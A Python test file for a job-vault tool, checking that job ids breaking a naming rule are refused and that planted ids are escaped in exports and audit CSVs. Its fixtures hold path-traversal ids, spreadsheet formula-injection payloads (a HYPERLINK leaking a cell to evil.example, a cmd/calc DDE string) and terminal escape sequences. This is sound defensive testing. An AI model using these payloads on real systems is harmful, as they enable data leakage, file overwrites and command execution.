"""Job ids at the store's boundary: one rule everywhere (the service's id form, what the HTTP
client takes from a server and the command line from a user). An id that was planted anyway
(a vault written before the rule, or by a writer of its tables) never becomes a file name that
leaves the working directory, nor a spreadsheet formula in the audit CSV."""

from __future__ import annotations

import csv
import io
import sqlite3
from pathlib import Path

import pytest
from conftest import invoke
from custody_kit import PASSPHRASE, new_vault, raw_db, sample_job

from vault.custody import Custodian, _jobs
from vault.errors import InputError

ENV = {"QUESTA_VAULT_PASSPHRASE": PASSPHRASE}
BAD_IDS = [
    "job-8e1b/../../planted", "..", ".hidden", "a/b", "a\\b", "a\x1bb", "a\nb", "tab\tid",
    "=HYPERLINK(\"http://evil.example/\")", "+cmd", "-x", "@SUM(A1)", "x" * 129, "", "a b",
    "caf\u00e9",
]  # fmt: skip


@pytest.fixture
def kr(vault_location) -> Custodian:  # type: ignore[no-untyped-def]
    custodian = new_vault(vault_location)
    yield custodian
    custodian.close()


@pytest.mark.parametrize("job_id", BAD_IDS)
def test_the_store_refuses_an_id_outside_the_rule(kr: Custodian, job_id: str) -> None:
    head = kr.verify_chain()
    with pytest.raises(InputError, match="not a valid job id"):
        kr.store_job(sample_job(job_id), actor="cron")
    with pytest.raises(InputError, match="not a valid job id"):
        kr.record_pending(
            job_id, file_type="csv", source="upload", submitted_at=1.0, filename="a.csv",
            options=None, actor="cron",
        )  # fmt: skip
    assert kr.verify_chain() == head
    assert kr.list_jobs() == []


def _plant(path: Path, monkeypatch: pytest.MonkeyPatch, *job_ids: str) -> None:
    """Store jobs with ids outside the rule, as a vault written before it (or by a writer of
    the file, who drops the database's own rule first) holds them."""
    db = sqlite3.connect(path)
    try:
        with db:
            db.execute("DROP TRIGGER IF EXISTS jobs_id_rule")
            db.execute("DROP TRIGGER IF EXISTS jobs_id_rule_update")
    finally:
        db.close()  # left open, it would keep the -wal and -shm files the test counts
    with monkeypatch.context() as m:
        m.setattr(_jobs, "check_job_id", lambda job_id: None)
        with Custodian.open(path) as kr:
            for job_id in job_ids:
                assert kr.store_job(sample_job(job_id), actor="cron")


def test_export_never_writes_outside_the_working_directory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The review's attack: an archived id ``job-8e1b/../../planted`` and an analyst typing
    the prefix ``export job-8e1b`` (no -o) in a directory that has ``job-8e1b/``."""
    vault = tmp_path / "v.db"
    new_vault(vault).close()
    _plant(vault, monkeypatch, "job-8e1b/../../planted")
    work = tmp_path / "a" / "work"
    (work / "job-8e1b").mkdir(parents=True)
    monkeypatch.chdir(work)
    result = invoke(["--vault", str(vault), "--user", "alice", "export", "job-8e1b"], env=ENV)
    assert result.exit_code == 1, result.output
    assert result.stderr.count("\n") == 1 and "not valid" in result.stderr
    assert "planted" not in result.stderr
    assert sorted(p.name for p in tmp_path.rglob("*") if p.is_file()) == ["v.db"]
    with Custodian.open(vault) as kr:
        assert [e.action for e in kr.log_entries()].count("export") == 0


@pytest.mark.parametrize("job_id", ["..", "a/b", "job-1/../../x", "", "x\x00y"])
def test_the_default_export_name_is_refused_for_an_id_outside_the_rule(job_id: str) -> None:
    from vault.cli.jobs import default_export_name

    with pytest.raises(InputError, match="give the output with -o"):
        default_export_name(job_id, "csv")
    assert default_export_name("job-1.v2", "pdf") == Path("job-1.v2.pdf")


def test_the_audit_csv_holds_no_formula_from_a_planted_id(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    vault = tmp_path / "v.db"
    new_vault(vault).close()
    planted = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "@x", "-1"]
    _plant(vault, monkeypatch, *planted, "job-ok")
    result = invoke(["--vault", str(vault), "audit", "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    cells = [cell for row in rows[1:] for cell in row[:4]]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert sorted(row[0] for row in rows[1:]) == sorted(["'" + p for p in planted] + ["job-ok"])


@pytest.mark.parametrize("job_id", BAD_IDS)
def test_the_database_refuses_an_id_outside_the_rule(
    vault_location: Path | str, job_id: str
) -> None:
    """The rule at the database too: a client that skips the library's check (the fetch
    host's own code, a role's plain INSERT) cannot store such an id on either backend; an
    id inside the rule goes in, and a stored job's row can still be rewritten."""
    new_vault(vault_location).close()
    insert = (
        "INSERT INTO jobs (job_id, status, file_type, source, updated_at) "
        "VALUES (?, 'pending', 'csv', 'upload', 0)"
    )
    with pytest.raises(Exception, match="a job id is a letter or digit"):
        with raw_db(vault_location) as db:
            db.execute(insert, (job_id,))
    with raw_db(vault_location) as db:
        db.execute(insert, ("job-1.v2_a",))
        db.execute("UPDATE jobs SET status = 'expired' WHERE job_id = 'job-1.v2_a'")
        with pytest.raises(Exception, match="a job id is a letter or digit"):
            db.execute("UPDATE jobs SET job_id = 'a/b' WHERE job_id = 'job-1.v2_a'")


def test_a_planted_id_is_escaped_in_every_output(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An id planted anyway (by a writer of the file, past the database's rule) never puts a
    control character or a bidi override into any output, the CSV in a pipe or a file
    included: no valid id holds one, so nothing is lost by escaping."""
    vault = tmp_path / "v.db"
    new_vault(vault).close()
    planted = "job-esc\x1b]2;PWNED\x07\x1b[2J\u202etxt"
    _plant(vault, monkeypatch, planted)
    for args in (
        ["audit", "--format", "csv"], ["audit", "--format", "json"], ["audit"], ["jobs"],
        ["jobs", "--json"], ["log"], ["log", "--json"],
    ):  # fmt: skip
        result = invoke(["--vault", str(vault), *args])
        assert result.exit_code == 0, (args, result.output)
        assert "job-esc" in result.stdout, (args, result.stdout)
        bad = [c for c in result.stdout if c in "\x1b\x07\u202e"]
        assert not bad, (args, result.stdout)
    # and verify reports the id (escaped) as outside the rule
    checked = invoke(["--vault", str(vault), "verify"])
    assert checked.exit_code == 5, checked.output
    assert "the job's id is outside the job-id rule" in checked.stdout
    assert not [c for c in checked.stdout if c in "\x1b\x07\u202e"], checked.stdout
